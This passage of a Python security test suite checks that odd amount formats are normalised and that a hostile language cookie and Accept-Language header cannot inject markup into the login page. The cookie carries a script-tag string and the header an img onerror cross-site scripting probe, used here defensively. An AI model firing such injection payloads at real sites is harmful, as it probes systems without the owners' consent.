        assert hostile.client.get(url, headers=auth).status_code == 200, url


@pytest.mark.parametrize(("typed", "stored"), [("-0", "0.00"), ("-0,00", "0.00"), (" 1 200,5 ", "1200.50")])
def test_amounts_typed_oddly_are_stored_as_plain_numbers(hostile, typed, stored):
    answer = hostile.client.post(f"/api/v1/processes/{hostile.process}/pledges",
                                 headers=bearer(hostile.tokens["facilitator"]), json={
                                     "organization": hostile.organizations[0], "kind": "spaces", "description": "Sala",
                                     "quantity": typed, "unit": "m²", "value_eur": typed})
    assert answer.status_code == 201, answer.text
    assert (answer.json()["quantity"], answer.json()["value_eur"]) == (stored, stored)


def test_a_hostile_language_choice_falls_back_to_a_known_language(hostile):
    """The language comes from a cookie, Accept-Language or hello's `lang`: only it or en
    ever reaches a page."""
    from app.security import LANG_COOKIE

    hostile.client.cookies.set(LANG_COOKIE, '"><script>alert(1)</script>')
    try:
        answer = hostile.client.get("/login", headers={"Accept-Language": 'x"><img src=x onerror=alert(1)>;q=nan, *;q=1e999'})
    finally:
        hostile.client.cookies.delete(LANG_COOKIE)
    assert answer.status_code == 200
    assert injected(answer.text) == []
    assert re.search(r'<html lang="(it|en)"', answer.text)
